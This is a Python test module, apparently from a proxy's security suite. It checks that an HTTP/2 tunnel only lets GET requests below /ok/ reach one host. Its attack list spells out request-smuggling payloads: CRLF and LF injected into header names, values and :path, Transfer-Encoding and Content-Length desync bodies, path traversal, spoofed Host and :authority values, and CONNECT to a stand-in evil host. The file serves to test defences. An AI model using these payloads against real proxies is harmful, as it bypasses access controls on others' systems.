"""Attacks in HTTP/2 inside a tunnel that the proxy opens; the site behind it speaks HTTP/1.1.

`inspected.example.com` may be asked with GET below `/ok/`, and nothing else.
"""

from __future__ import annotations

import contextlib
from collections.abc import Callable
from typing import Final

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import StreamEnded, StreamReset
from h2.exceptions import H2Error

from tests.net.attacks.attempt import Attack, Attempt

HOST: Final = "inspected.example.com"

type _Fields = tuple[tuple[str, str], ...]

_SECRET: Final = f"GET /secret/$M HTTP/1.1\r\nhost: {HOST}\r\n\r\n"
_GET: Final = ((":method", "GET"), (":scheme", "https"))
_HERE: Final = (*_GET, (":authority", HOST))
_OK: Final = (*_HERE, (":path", "/ok/first"))
_MARKED: Final = (*_HERE, (":path", "/ok/$M"))


def _streams(*heads: _Fields, body: str = "", trailers: _Fields = ()) -> Callable[[Attempt], None]:
    """One request after the other, each when the one before has ended; `$M` is the marker."""

    def act(attempt: Attempt) -> None:
        connection = H2Connection(H2Configuration(validate_outbound_headers=False, normalize_outbound_headers=False))
        with attempt.tls(f"{HOST}:443", HOST, protocol="h2") as secure:
            connection.initiate_connection()
            for head in heads:
                stream = connection.get_next_available_stream_id()
                connection.send_headers(stream, _marked(head, attempt), end_stream=not (body or trailers))
                secure.sendall(connection.data_to_send())
                if body:
                    # Past the library, which would count it.
                    data = body.replace("$M", attempt.marker).encode("latin-1")
                    end = 0 if trailers else 1
                    secure.sendall(len(data).to_bytes(3) + bytes((0, end)) + stream.to_bytes(4) + data)
                if trailers:
                    connection.send_headers(stream, _marked(trailers, attempt), end_stream=True)
                    secure.sendall(connection.data_to_send())
                ended = False
                while not ended and (data := secure.recv(65_536)):
                    with contextlib.suppress(H2Error):
                        events = connection.receive_data(data)
                        ended = any(isinstance(event, StreamEnded | StreamReset) for event in events)

    return act


def _marked(head: _Fields, attempt: Attempt) -> list[tuple[bytes, bytes]]:
    return [
        (name.replace("$M", attempt.marker).encode("latin-1"), value.replace("$M", attempt.marker).encode("latin-1"))
        for name, value in head
    ]


_EVIL: Final = ((("evil.example.net", 443),), ("evil.example.net",))

ATTACKS: Final = (
    Attack("a path that is not allowed", _streams((*_HERE, (":path", "/secret/$M")))),
    Attack("a forbidden path on the next stream", _streams(_OK, (*_HERE, (":path", "/secret/$M")))),
    Attack("a method that is not allowed", _streams(((":method", "POST"), *_MARKED[1:]))),
    Attack("dots out of the allowed path", _streams((*_HERE, (":path", "/ok/../secret/$M")))),
    Attack("another authority", _streams((*_GET, (":authority", "evil.example.net"), _MARKED[3])), *_EVIL),
    Attack("the authority of another allowed host", _streams((*_GET, (":authority", "api.example.com"), _MARKED[3]))),
    Attack("another Host beside :authority", _streams((*_MARKED, ("host", "evil.example.net")))),
    Attack("another Host in place of :authority", _streams((*_GET, _MARKED[3], ("host", "evil.example.net")))),
    Attack("two Hosts", _streams((*_GET, _MARKED[3], ("host", HOST), ("host", "evil.example.net")))),
    Attack("a second :path", _streams((*_OK, (":path", "/secret/$M")))),
    Attack("a :path behind other fields", _streams((*_HERE, ("x-a", "1"), (":path", "/ok/$M")))),
    Attack("an absolute :path", _streams((*_HERE, (":path", "https://evil.example.net/$M"))), *_EVIL),
    Attack("a second request behind CRLF in a value", _streams((*_OK, ("x-a", f"1\r\n\r\n{_SECRET}")))),
    Attack("a second request behind LF in a value", _streams((*_OK, ("x-a", "1\n\n" + _SECRET)))),
    Attack("a second request behind CRLF in a name", _streams((*_OK, (f"x-a: 1\r\n\r\n{_SECRET}x", "1")))),
    Attack("a second request in :path", _streams((*_HERE, (":path", f"/ok/1 HTTP/1.1\r\nhost: x\r\n\r\n{_SECRET}")))),
    Attack("NUL in a value", _streams((*_OK, ("x-a", "\0$M")))),
    Attack("Transfer-Encoding over a second request",
           _streams((*_OK, ("transfer-encoding", "chunked")), body=f"0\r\n\r\n{_SECRET}")),
    Attack("a body that is longer than its length", _streams((*_OK, ("content-length", "1")), body=f"x{_SECRET}")),
    Attack("Content-Length twice",
           _streams((*_OK, ("content-length", "0"), ("content-length", "0")), body=_SECRET)),
    Attack("Connection that hides a field", _streams((*_MARKED, ("connection", "host")))),
    Attack("Upgrade", _streams((*_MARKED, ("upgrade", "websocket"), ("connection", "upgrade")))),
    Attack("extended CONNECT",
           _streams(((":method", "CONNECT"), (":protocol", "websocket"), *_MARKED[1:]))),
    Attack("CONNECT to another host",
           _streams(((":method", "CONNECT"), (":authority", "evil.example.net:443")), body="$M"), *_EVIL),
    Attack("a pseudo-field among trailers", _streams(_OK, body="x", trailers=((":path", "/secret/$M"),))),
)  # fmt: skip

PERMITTED: Final = (
    Attack("what the rule says", _streams(_MARKED)),
    Attack("what the rule says, on the next stream", _streams(_OK, _MARKED)),
)
